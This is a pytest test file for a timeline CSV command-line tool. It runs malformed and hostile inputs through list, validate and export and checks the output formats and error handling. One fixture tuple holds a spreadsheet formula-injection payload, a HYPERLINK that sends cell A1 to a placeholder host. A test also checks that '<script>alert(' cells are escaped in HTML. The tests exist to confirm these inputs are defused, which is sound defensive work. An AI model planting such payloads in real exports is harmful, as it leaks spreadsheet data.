"""The bad-input corpus (tests/fixtures/bad) through `list` in every format, `validate` and `export`.

Every case either gives back exactly the rows its manifest lists, or fails with one `kaztimeline: file:line:
...` line per problem, the documented exit code and no traceback.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import sys
from pathlib import Path

import pytest

from kaztimeline.render import delimited
from kaztimeline.schema.model import EVENT_COLUMNS, LIST_COLUMNS, OPTIONAL_EVENT_COLUMNS, split_list
from kaztimeline.values.dates import record_date

BAD = Path(__file__).parent / "fixtures" / "bad"
_spec = importlib.util.spec_from_file_location("bad_cases", BAD / "cases.py")
cases = importlib.util.module_from_spec(_spec)
sys.modules["bad_cases"] = cases
_spec.loader.exec_module(cases)

CASES = cases.CASES
FORMATS = ("table", "tsv", "csv", "md", "json", "jsonl")
MACHINE_FORMATS = FORMATS[1:]
ANSI = "\x1b["
# The corpus's files leave out the optional date_basis column, and output keeps a file's own columns.
FILE_COLUMNS = tuple(c for c in EVENT_COLUMNS if c not in OPTIONAL_EVENT_COLUMNS)
# Markdown is a table people read: the date as read (`when`) where the raw date columns were.
MD_COLUMNS = tuple("when" if c == "date" else c for c in FILE_COLUMNS if c not in ("end_date", "date_qualifier"))


@pytest.fixture(scope="session")
def generated(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("bad-generated")


def case_path(case, generated: Path) -> Path:
    return cases.materialise(case, generated)


# --- expectations, written from the manifest's cells, not from the renderers ---------------------------------

def as_json(row: dict[str, str]) -> dict[str, object]:
    """What JSON promises: `;`-lists as arrays of stripped items, empty cells as null, the rest verbatim; then
    the event's citations (here only its own, as these files bring no citations.csv)."""
    row = {c: row.get(c, "") for c in FILE_COLUMNS}
    record: dict[str, object] = {c: (None if row[c] == "" else split_list(row[c]) if c in LIST_COLUMNS else row[c])
                                 for c in FILE_COLUMNS}
    record["citations"] = [{"source": row["source"], "quote": row["quote"], "relation": "primary", "note": ""}]
    record["sources"] = [row["source"]] if row["source"] else []
    record["disputed"] = False
    return record


def one_line(value: str) -> str:
    """TSV and Markdown put each event on one line: line breaks and tabs become spaces."""
    return re.sub(r"\r\n|[\r\n\t]", " ", value)


def md_cells(line: str) -> list[str]:
    """Split a Markdown table line on its unescaped pipes and unescape the cells."""
    assert line.startswith("| ") and line.endswith(" |"), line[:80]
    cells, current, chars = [], [], iter(line[2:-2])
    for ch in chars:
        if ch == "\\":
            current.append(next(chars))
        elif ch == "|":
            cells.append("".join(current))
            current = []
        else:
            current.append(ch)
    cells.append("".join(current))
    return [c.strip(" ") for c in cells]


def raw_stdout(result) -> str:
    """Standard output exactly as written (`Result.stdout` turns CRLF into LF, which would hide a lost CR)."""
    return result.stdout_bytes.decode("utf-8")


def assert_clean(result) -> None:
    assert "Traceback" not in result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)


def assert_error_lines(case, stderr: str) -> None:
    lines = stderr.splitlines()
    assert len(lines) == len(case.error), stderr
    for line, fragment in zip(lines, case.error):
        assert line.startswith("kaztimeline: ") and fragment in line, (line, fragment)


def assert_rows(fmt: str, stdout: str, expected: tuple[dict[str, str], ...]) -> None:
    cells = [[r.get(c, "") for c in FILE_COLUMNS] for r in expected]
    if fmt == "csv":
        parsed = list(csv.reader(io.StringIO(stdout, newline="")))
        assert parsed[0] == list(FILE_COLUMNS)
        assert parsed[1:] == cells
    elif fmt == "json":
        assert json.loads(stdout) == [as_json(r) for r in expected]
    elif fmt == "jsonl":
        assert [json.loads(line) for line in stdout.splitlines()] == [as_json(r) for r in expected]
    elif fmt == "tsv":
        lines = stdout.split("\n")
        assert lines[-1] == "" and lines[0] == "\t".join(FILE_COLUMNS)
        assert [line.split("\t") for line in lines[1:-1]] == [[one_line(v) for v in row] for row in cells]
    elif fmt == "md":
        columns = list(MD_COLUMNS)
        cells = [[record_date(r) if c == "when" else r.get(c, "") for c in columns] for r in expected]
        lines = stdout.split("\n")
        assert lines[-1] == ""
        lines = lines[:-1]
        assert len(lines) == 2 + len(expected), "header, separator and one line per event"
        assert md_cells(lines[0]) == columns
        assert lines[1].count("|") == len(columns) + 1 and set(lines[1]) <= set("|-: ")
        for line, row in zip(lines[2:], cells):
            assert md_cells(line) == [one_line(v).strip(" ") for v in row]


# --- the corpus itself ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("case", [c for c in CASES if c.committed], ids=lambda c: c.name)
def test_committed_file_is_what_the_manifest_builds(case):
    """The committed bytes are the case (no editor or git line-ending rewrite has touched them)."""
    assert (BAD / case.file).read_bytes() == case.build()


def test_every_case_has_its_own_file():
    files = [c.file for c in CASES]
    assert len(set(files)) == len(files)
    committed = {p.name for p in BAD.glob("*.csv")}
    assert committed == {c.file for c in CASES if c.committed}


def test_the_huge_case_really_has_a_ten_megabyte_cell(generated):
    data = case_path(cases.BY_NAME["huge-cell"], generated).read_bytes()
    assert len(max(data.split(b","), key=len)) >= cases.TEN_MB


# --- list, every case in every format --------------------------------------------------------------------

@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_list(invoke, generated, case, fmt):
    result = invoke("list", "--data", str(case_path(case, generated)), "--format", fmt)
    assert_clean(result)
    assert result.exit_code == case.exit, result.stderr
    if not case.ok:
        assert result.stdout == ""
        assert_error_lines(case, result.stderr)
        return
    assert ANSI not in result.stdout
    if fmt == "table":
        if not case.rows:
            assert "No events match." in result.stderr
        for text in case.literal_in_table:
            assert text in result.stdout
        return
    assert result.stderr == ""
    assert_rows(fmt, raw_stdout(result), case.rows)


@pytest.mark.parametrize(
    ("case", "query"), [(c, q) for c in CASES for q in c.queries], ids=lambda v: getattr(v, "name", None)
)
def test_matching_treats_spellings_alike(invoke, case, query):
    result = invoke("list", "--data", str(BAD / case.file), "--format", "jsonl", *query.args)
    assert_clean(result)
    assert result.exit_code == 0, result.stderr
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == list(query.ids)


def test_rich_markup_prints_literally_in_every_terminal_view(invoke):
    path = str(BAD / "rich_markup.csv")
    for args in (("list",), ("list", "--columns", "title,summary")):
        result = invoke(*args, "--data", path, "--format", "table")
        assert result.exit_code == 0
        for text in ("[red]Kazakhstan[/red]", "[b]DEEP", "[sic]", "[/b]"):
            if args == ("list",) and text in ("[sic]", "[/b]"):
                continue  # the summary is not in the default view
            assert text in result.stdout


def test_a_ten_megabyte_cell_is_clipped_in_the_terminal_only(invoke, generated):
    path = str(case_path(cases.BY_NAME["huge-cell"], generated))
    table = invoke("list", "--data", path, "--format", "table", "--columns", "id,summary")
    assert table.exit_code == 0
    assert len(table.stdout) < 100_000
    assert "more characters" in table.stdout.replace("\n", " ")


# --- formula-looking cells ---------------------------------------------------------------------------------

FORMULA_CELLS = ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "-1", "+7 727 000 00 00", "@x")


def test_excel_safe_defuses_every_formula_trigger():
    out = io.StringIO()
    delimited.write_csv(["a"], [[v] for v in FORMULA_CELLS + ("plain", "7-1")], out, excel=True)
    values = [r[0] for r in csv.reader(io.StringIO(out.getvalue()))][1:]
    assert values == ["'" + v for v in FORMULA_CELLS] + ["plain", "7-1"]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_list_excel_safe(invoke, fmt):
    result = invoke("list", "--data", str(BAD / "formulas.csv"), "--format", fmt, "--excel-safe")
    assert result.exit_code == 0
    delimiter = "," if fmt == "csv" else "\t"
    cells = {v for row in csv.reader(io.StringIO(result.stdout, newline=""), delimiter=delimiter) for v in row}
    assert {"'" + v for v in FORMULA_CELLS} <= cells
    assert not cells & set(FORMULA_CELLS)


# --- validate and export: the same corpus, once the commands exist ------------------------------------------

@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_validate(invoke, generated, case):
    result = invoke("validate", str(case_path(case, generated)))
    assert_clean(result)
    if not case.ok:
        assert result.exit_code == 1
        for fragment in case.error:
            where = re.match(r"[^:]+(?::\d+)?", fragment).group()  # `file:line`, or `file` for whole-file errors
            assert where in result.stderr + result.stdout
    elif case.validate_exit is not None:
        assert result.exit_code == case.validate_exit, result.stdout + result.stderr
    else:
        assert result.exit_code in (0, 1)


EXPORT_FORMATS = ("csv", "json", "md", "html")


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_export(invoke, generated, tmp_path, case, fmt):
    target = tmp_path / f"out.{fmt}"
    target.write_text("previous\n", encoding="utf-8")
    result = invoke("export", "--data", str(case_path(case, generated)), "--format", fmt, "--output", str(target))
    assert_clean(result)
    assert result.exit_code == case.exit, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name], "no temporary file is left behind"
    if not case.ok:
        assert target.read_text(encoding="utf-8") == "previous\n", "a failed export leaves the old file as it was"
        assert_error_lines(case, result.stderr)
        return
    text = target.read_bytes().decode("utf-8")  # read_text would turn a CRLF inside a cell into LF
    if fmt in ("csv", "json"):
        assert_rows(fmt, text, case.rows)
    if fmt == "html" and case.html_hostile:
        # The page has scripts of its own; the cells' tags must arrive as text.
        assert "<script>alert(" not in text and "&lt;script&gt;alert(" in text
        assert "<b>bold</b>" not in text and "&lt;b&gt;bold&lt;/b&gt;" in text
    if fmt == "md" and case.html_hostile:
        body = [line for line in text.splitlines() if line.startswith("| ")]
        assert {len(md_cells(line)) for line in body} == {len(MD_COLUMNS)}


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_export_excel_safe(invoke, tmp_path, fmt):
    case = cases.BY_NAME["formulas"]
    target = tmp_path / f"out.{fmt}"
    for excel in (False, True):
        flag = ("--excel-safe",) if excel else ()
        result = invoke("export", "--data", str(BAD / case.file), "--format", fmt, "--output", str(target), *flag)
        assert result.exit_code == 0, result.stderr
        delimiter = "," if fmt == "csv" else "\t"
        with target.open(encoding="utf-8", newline="") as fh:
            cells = {v for row in csv.reader(fh, delimiter=delimiter) for v in row}
        defused = {"'" + v for v in FORMULA_CELLS}
        assert (defused <= cells) is excel and (set(FORMULA_CELLS) <= cells) is not excel
